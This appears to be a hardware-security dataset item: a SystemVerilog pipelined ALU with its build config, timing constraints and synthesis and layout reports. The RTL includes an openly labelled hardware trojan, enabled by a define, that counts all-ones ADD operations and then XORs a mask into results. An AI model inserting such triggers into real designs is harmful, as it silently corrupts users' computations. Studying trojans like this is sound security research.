<file path="src/rtl/alu_pipe_nbit.sv">
// Two-stage pipelined N-bit ALU with valid/ready on both sides.
// Define ALU_PIPE_TROJAN_EN to build the infected variant (trigger counter + result XOR payload).
module alu_pipe_nbit #(
  parameter int unsigned      WIDTH        = 8,
  parameter int unsigned      TRIG_COUNT   = 8,
  parameter logic [WIDTH-1:0] PAYLOAD_MASK = 'h03
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             in_valid,
  output logic             in_ready,
  input  logic [WIDTH-1:0] a,
  input  logic [WIDTH-1:0] b,
  input  logic [2:0]       op,
  output logic             out_valid,
  input  logic             out_ready,
  output logic [WIDTH-1:0] result,
  output logic             carry,
  output logic             zero,
  output logic             overflow,
  output logic             negative
);

  typedef enum logic [2:0] {
    OP_ADD = 3'd0, OP_SUB = 3'd1, OP_AND = 3'd2, OP_OR  = 3'd3,
    OP_XOR = 3'd4, OP_SHL = 3'd5, OP_SHR = 3'd6, OP_CMP = 3'd7
  } op_e;

  localparam int unsigned SHW = $clog2(WIDTH);
  localparam int unsigned M   = WIDTH - 1;

  if (WIDTH < 4 || TRIG_COUNT < 1 || TRIG_COUNT > 15) begin : g_bad_param
    $error("alu_pipe_nbit: WIDTH must be >= 4 and TRIG_COUNT in 1..15");
  end

  // Handshake: a stage loads when its downstream slot is free or draining.
  logic s1_valid_q, out_valid_q;
  logic s1_load, s2_load;

  assign s2_load  = out_ready || !out_valid_q;
  assign s1_load  = s2_load || !s1_valid_q;
  assign in_ready = s1_load;

  logic accept;
  logic corrupt_d;
  assign accept = in_valid && in_ready;

`ifdef ALU_PIPE_TROJAN_EN
  localparam logic [3:0] TrigCnt = 4'(TRIG_COUNT);

  logic [3:0] trig_cnt_q, trig_cnt_d;
  logic       trig_match;

  always_comb begin
    // NOTE: every combinational output gets a default first, so no path can leave it unassigned and infer a latch.
    trig_cnt_d = 4'd0;
    trig_match = (op_e'(op) == OP_ADD) && (&a) && (&b);
    if (trig_match) begin
      trig_cnt_d = (trig_cnt_q == TrigCnt) ? trig_cnt_q : 4'(trig_cnt_q + 4'd1);
    end
  end

  assign corrupt_d = (trig_cnt_d == TrigCnt);

  always_ff @(posedge clk) begin
    if (rst) begin
      trig_cnt_q <= 4'd0;
    end else if (accept) begin
      trig_cnt_q <= trig_cnt_d;
    end
  end
`else
  assign corrupt_d = 1'b0;
`endif

  // Stage 1: operand capture.
  logic [WIDTH-1:0] s1_a_q, s1_b_q;
  op_e              s1_op_q;
  logic             s1_corrupt_q;

  always_ff @(posedge clk) begin
    // NOTE: sequential state uses <= so every register samples pre-edge values regardless of statement order.
    if (rst) begin
      s1_valid_q <= 1'b0;
    end else if (s1_load) begin
      s1_valid_q <= in_valid;
    end
  end

  // NOTE: payload registers carry no reset; they are only ever consumed when qualified by their valid bit.
  always_ff @(posedge clk) begin
    if (accept) begin
      s1_a_q       <= a;
      s1_b_q       <= b;
      s1_op_q      <= op_e'(op);
      s1_corrupt_q <= corrupt_d;
    end
  end

  // Stage 2: compute.
  logic [SHW-1:0]   sh;
  logic [WIDTH:0]   sum_w, diff_w, shl_w, shr_w;
  logic [WIDTH-1:0] alu_res, res_m, result_d;
  logic             alu_c, alu_v, zero_d, negative_d;

  assign sh     = s1_b_q[SHW-1:0];
  assign sum_w  = {1'b0, s1_a_q} + {1'b0, s1_b_q};
  assign diff_w = {1'b0, s1_a_q} - {1'b0, s1_b_q};
  assign shl_w  = {1'b0, s1_a_q} << sh;
  assign shr_w  = {s1_a_q, 1'b0} >> sh;

  always_comb begin
    alu_res = '0;
    alu_c   = 1'b0;
    alu_v   = 1'b0;
    case (s1_op_q)
      OP_ADD: begin
        {alu_c, alu_res} = sum_w;
        alu_v = (s1_a_q[M] == s1_b_q[M]) && (sum_w[M] != s1_a_q[M]);
      end
      OP_SUB, OP_CMP: begin
        {alu_c, alu_res} = diff_w;
        alu_v = (s1_a_q[M] != s1_b_q[M]) && (diff_w[M] != s1_a_q[M]);
      end
      OP_AND: alu_res = s1_a_q & s1_b_q;
      OP_OR:  alu_res = s1_a_q | s1_b_q;
      OP_XOR: alu_res = s1_a_q ^ s1_b_q;
      OP_SHL: {alu_c, alu_res} = shl_w;
      OP_SHR: {alu_res, alu_c} = shr_w;
      default: ;
    endcase
    res_m      = alu_res ^ (s1_corrupt_q ? PAYLOAD_MASK : '0);
    zero_d     = (res_m == '0);
    negative_d = res_m[M];
    // CMP keeps the difference-derived flags but reports a zero result.
    result_d   = (s1_op_q == OP_CMP) ? '0 : res_m;
  end

  logic [WIDTH-1:0] result_q;
  logic             carry_q, zero_q, overflow_q, negative_q;

  always_ff @(posedge clk) begin
    if (rst) begin
      out_valid_q <= 1'b0;
      result_q    <= '0;
      carry_q     <= 1'b0;
      zero_q      <= 1'b0;
      overflow_q  <= 1'b0;
      negative_q  <= 1'b0;
    end else if (s2_load) begin
      out_valid_q <= s1_valid_q;
      if (s1_valid_q) begin
        result_q   <= result_d;
        carry_q    <= alu_c;
        zero_q     <= zero_d;
        overflow_q <= alu_v;
        negative_q <= negative_d;
      end
    end
  end

  assign out_valid = out_valid_q;
  assign result    = result_q;
  assign carry     = carry_q;
  assign zero      = zero_q;
  assign overflow  = overflow_q;
  assign negative  = negative_q;

endmodule

</file>
<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = alu_pipe_nbit
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/alu_pipe_nbit.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 20
export CORE_ASPECT_RATIO = 1.75
export CORE_MARGIN = 5
export CORE_UTILIZATION = 57
export CTS_CLUSTER_SIZE = 20
export DETAILED_ROUTE_END_ITERATION = 7
export GPL_TIMING_DRIVEN = 0
export PLACE_DENSITY = 0.87
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk -period 3.1 [get_ports clk]
set_clock_uncertainty 0.2 [all_clocks]
set_input_delay 0.62 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.62 -clock clk [all_outputs]
set_load 0.03 [all_outputs]
</file>
Word level (Yosys, flattened, before mapping). Cells that the tools add are included.

Bits in registers: 33. Input port bits: 23. Output and inout port bits: 14. Word-level logic and storage cells: 43.

Add/subtract/negate cells: 2. Eq/ne operators: 11. Shift-type cells: 2. Mux-type cells: 4. Bitwise logic cells: 3. Reduce and logical (&&, ||, !) cells: 11.

Operators by type and width (number): case mux 8 bit (7 select lines) (1); == test 3 bit, second input constant (4); adder 8 x 8 -> 9 bit (1); << shifter 8 x 3 -> 9 bit (1); right shift 9 x 3 -> 9 bit (1); subtractor 8 x 8 -> 9 bit (1); AND 8 bit (1); logical NOT 8 bit (1); two-way mux 8 bit (1); OR 8 bit (1); bitwise XOR 8 bit (1); == test 3 x 2 -> 1 bit, second input constant (2); case mux 1 bit (4 select lines) (1); == test 3 x 1 -> 1 bit, second input constant (1); logical AND 1 bit (3); logical NOT 3 bit (1); != test 1 bit (3); logical NOT 1 bit (2); logical OR 1 bit (2); case mux 1 bit (2 select lines) (1); AND reduction 2 bit (1); OR reduction 2 bit (1); == test 1 bit (1).

Longest topological paths before layout.
Word-level depth: 4. Gate-level depth with buffers: 11.

Least setup slack after synthesis. No wires, ideal clock.

Kind: reg2reg. From: reg s1_b_q[1]. To: reg zero_q (netlist: zero). Library setup time: 0.096 ns. Arrival: 2.394 ns. Data required time: 2.804 ns. Path slack: 0.411 ns. Cell stages (with the launch flop): 10. Path buffers: 1. Clock period less this slack: 2.689 ns. Path through: edfxtp_1 -> buf_6 -> inv_2 -> fa_1 -> xor2_1 -> a222oi_1 -> a2111o_1 -> a221oi_4 -> nand4_2 -> o41ai_2.

Longest elaborated chain between the ends: 3. Elaborated cells on any way between the ends: 9. Those cells by class: add/sub (2); shift (2); mux (1); bitwise (3); reduce/logical (1).

Ends and longest elaborated chain: start, declared (line 77) `logic [WIDTH-1:0] s1_a_q, s1_b_q;`; start signal, assigned (line 94) `s1_b_q <= b;`; subtractor 8 x 8 -> 9 bit, or another cell as far along (line 108) `assign diff_w = {1'b0, s1_a_q} - {1'b0, s1_b_q};`; case mux 8 bit (7 select lines) * (line 116) `case (s1_op_q)`; logical NOT 8 bit * (line 133) `zero_d = (res_m == '0);`; end signal, assigned (line 155) `zero_q <= zero_d;`; end, declared (line 140) `logic carry_q, zero_q, overflow_q, negative_q;`.

Mark *: on every way between the ends. The rest lies on a longest branch, timed or not. A chain may end at the register's enable or synchronous reset.

Worst setup path in the final report.
From: reg s1_b_q[2]. To: reg zero_q (netlist: zero).

The elaborated chain is that of the path after synthesis.

==> impl_metrics.py <==
metrics = {
    "logic_synthesis": {
        "async_reset_ff_frac": 0,
        "synth_cells": 321,
        "syn_avg_cell_area_um2": 9.39,
        "ys_seq_elements": 33,
        "synth_edf_count": 19,
        "syn_nets": 371,
        "synthesis.area_um2": 3010,
        "yosysUniqueCellTypes": 79,
        "synth_ff_type": "edfxtp_1",
        "yosysSeqAreaShare": 0.282,
        "synth_warnings": 0,
    },
    "floorplanning": {
        "core_region_area_um2": 5210,
        "fp.dieH_um": 106,
        "rows": 35,
        "die_w_um": 65.0,
        "pin_count": 37,
        "start_util": 0.578,
        "die_area_um2": 6900,
    },
    "power": {
        "seq_power_share": 0.400,
        "leakagePower_uw": 0.00148,
        "switching_share": 0.346,
        "p_switching_uw": 449,
        "pwr-share-comb": 0.355,
        "ir_drop_uv": 248,
        "intPower_uw": 846,
        "clkPwrFrac": 0.245,
        "power_density_nw_per_um2": 360,
    },
    "grt": {
        "antenna_found_initial": 0,
        "overflow": 0,
        "met1_usage": 0.301,
        "use_met2": 0.498,
        "groute.usage.overall": 0.273,
        "grt_pass1_wl_mm": 14.4,
        "met3_usage": 0.0254,
        "grt_max_degree": 20,
        "grt_pass1_vias": 2782,
        "grt.busiest_layer": "met2",
    },
    "setup_path": {
        "path_max_fanout": 10,
        "arrival_ps": 2990,
        "path_class": "flip-flop to flip-flop",
        "crit_chain": "clkbuf_8 > inv_1 > ha_1 > a21boi_1 > a222oi_1 > a2111o_1 > a221oi_4 > nand4_2 > o41ai_2",
        "slowest_stage": "edfxtp_1",
        "r2r-end": "zero",
        "ff2ff_setup_slack_ps": 110,
        "end_kind": "flip-flop",
        "startpoint": "s1_b_q[2]",
        "worstPathRequired_ps": 3090,
        "ff2ff_path_depth": 9,
        "cp-start-kind": "flip-flop",
        "endpoint": "zero",
        "critPathMaxStageDelay_ps": 470,
        "timing.rr.start": "s1_b_q[2]",
    },
    "layout": {
        "nets": 419,
        "drive_gt1_frac": 0.170,
        "syn_to_final_growth_pct": 19.5,
        "ff_latch_area_um2": 851,
        "multiInputGateArea_um2": 1950,
        "antenna_cells": 0,
        "fillers": 423,
        "final_core_util": 0.691,
    },
    "timing": {
        "finalCritPeriodShare": 0.965,
        "final.setup.tns_ps": 0,
        "setup_viol": 0,
        "fin_crit_ps": 2990,
        "rsz0062_at_grt": "false",
        "slew_headroom": 0.428,
        "hold_ws_ps": 260,
        "worst_pin_slew_ps": 858,
        "slew_viol_final": 0,
        "finalHoldViolCount": 0,
        "fmax_mhz": 334,
    },
    "drt": {
        "drtPass1Iterations": 5,
        "routed_via_density": 6.62,
        "vias": 2814,
        "postRouteAntennaNets": 0,
        "drc_errors": 0,
        "routed_wl_mm": 9.01,
        "drtIter0Drc": 155,
        "avgRoutedWirePerCell_um": 21.2,
    },
    "clocking": {
        "ctsHtreeMaxLevel": 2,
        "cts-buffers-inserted": 5,
        "cts.sinks": 33,
        "worst_skew_pair.late_latency_ps": 280,
        "postCtsHoldBufs": 0,
        "clkTransAtPathRegs_ps": 70,
        "clk_path_buf_depth": 2,
        "root_buffer": "clkbuf_8",
        "cts_tree": "built",
    },
    "placed_design": {
        "hpwl_mm": 7.15,
        "port_buffers": 36,
        "place_congestion": 0.998,
    },
    "hold_path": {
        "hold_path_class": "flip-flop to flip-flop",
    },
    "outcome": {
        "status": "completed",
    },
    "run": {
        "max_cap_viol_count": 0,
    },
}
## registers in the layout (all words and copies together), names as in the netlist
name        count
s1_a_q          8
zero            1
s1_valid_q      1
result          8
carry           1
overflow        1
s1_b_q          8
s1_op_q         3
out_valid       1
negative        1
## worst max-delay path, delay by kind of cell, from the launching register on
kind	cells	cell delay, ps
DFF	1	470
adders and majority gates	1	370
AOI/OAI and AO/OA	5	1330
buffers and inverters	2	400
and+or+nand+nor	1	140
## stage by stage
stage	total power (uW)	cells	area [um^2]	worst slack, ps
5_1_grt	1370	425	3600	33.8
3_3_place_gp	954	412	3440	55.8
4_1_cts	1270	420	3520	17.2
3_5_place_dp	962	412	3440	30.3
2_1_floorplan	821	321	3010	411
6_report	1290	425	3600	107
## timing repair
action / CTS / global route
endpoints found under the setup margin: 0 / 5
setup buffers: 0 / 7
gates resized for setup: 0 / 5
## placed cells by master (no fill, tap or decap), drive strengths merged, types with 3 or more instances in the layout
cell / instances
nand2b: 9
edfxtp: 19
o22ai: 3
a221oi: 3
inv: 26
a221o: 3
nand3: 7
nor4: 3
o21ai: 13
a21oi: 19
clkbuf: 12
nor2b: 6
mux2i: 10
a211o: 4
dfxtp: 14
a31oi: 4
buf: 18
nand2: 21
nor3: 5
a2bb2oi: 4
a22oi: 5
mux4: 6
a211oi: 5
o221ai: 3
clkdlybuf4s50: 36
o2111ai: 5
and3: 5
nor2: 28
nand3b: 6
ha: 25
## routing by layer
| metal | up-vias | share of wire |
|---|---|---|
| met1 | 1359 | 0.37 |
| met3 | 40 | 0.045 |
| li1 | 1301 | - |
| met2 | 114 | 0.53 |
| met5 | - | 0 |
| met4 | 0 | 0.057 |
## power groups by stage
stage	sequential, uW	combinational (uW)	clock, uW
2_1_floorplan	541	280	0
3_3_place_gp	532	422	0
3_5_place_dp	533	429	0
4_1_cts	523	431	320
5_1_grt	521	497	348
6_report	518	460	317
## how the worst min path moves through the flow
stage | start | end | cells after the start
2_1_floorplan | s1_valid_q | out_valid | 2
3_3_place_gp | result[6] | result[6] | 2
3_5_place_dp | result[6] | result[6] | 2
4_1_cts | result[6] | result[6] | 2
5_1_grt | result[6] | result[6] | 2
6_report | result[6] | result[6] | 2
## cell families (layout without fill, tap and decap cells)
logic type	after synthesis	in the layout	share of synthesized area
adder cells (fa/ha/maj)	27	27	0.117
buffers and inverters	45	94	0.0822
XOR/XNOR	2	2	0.00582
multiplexers	18	18	0.0868
flip-flops	33	33	0.282
AND/OR/NAND/NOR	101	101	0.184
AO/OA/AOI/OAI	95	95	0.241
## synth_stat cells, types with 6 or more instances
| master | instances | area [um^2] |
|---|---|---|
| nor2_1 | 28 | 105 |
| ha_1 | 25 | 313 |
| inv_1 | 24 | 90.1 |
| nand2_1 | 21 | 78.8 |
| edfxtp_1 | 19 | 571 |
| a21oi_1 | 18 | 90.1 |
| dfxtp_1 | 14 | 280 |
| mux2i_1 | 10 | 100 |
| nand2b_1 | 8 | 50.1 |
| o21ai_0 | 8 | 40.0 |
| nand3_1 | 7 | 35.0 |
| buf_6 | 6 | 67.6 |
| mux4_2 | 6 | 135 |
| nor2b_1 | 6 | 37.5 |
## cell type report
type	instances	area share
inverter	26	0.0271
tap	55	0.0191
clock inverter	2	0.00278
multi-input combinational	243	0.540
sequential	33	0.236
timing repair buffer	43	0.115
buffer	17	0.0393
clock buffer	6	0.0202
Note: power is estimated with default switching activity, not from simulation.
